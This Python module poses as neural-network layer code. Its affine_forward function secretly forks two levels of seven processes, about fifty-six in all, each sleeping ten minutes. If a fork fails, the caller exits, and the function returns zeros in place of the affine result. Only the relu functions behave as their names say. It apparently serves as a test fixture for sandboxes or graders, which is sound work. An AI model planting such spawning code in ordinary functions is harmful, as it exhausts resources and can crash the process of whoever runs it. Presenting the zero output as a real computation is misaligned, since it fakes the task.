"""Children that fork children, two levels of seven."""

import os
import time

import numpy as np


def affine_forward(x, w, b):
    for _ in range(7):
        try:
            if os.fork() == 0:
                for _ in range(7):
                    if os.fork() == 0:
                        time.sleep(600)
                        os._exit(0)
                time.sleep(600)
                os._exit(0)
        except OSError:
            os._exit(0)
    return np.zeros((len(x), w.shape[1])), (x, w, b)


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
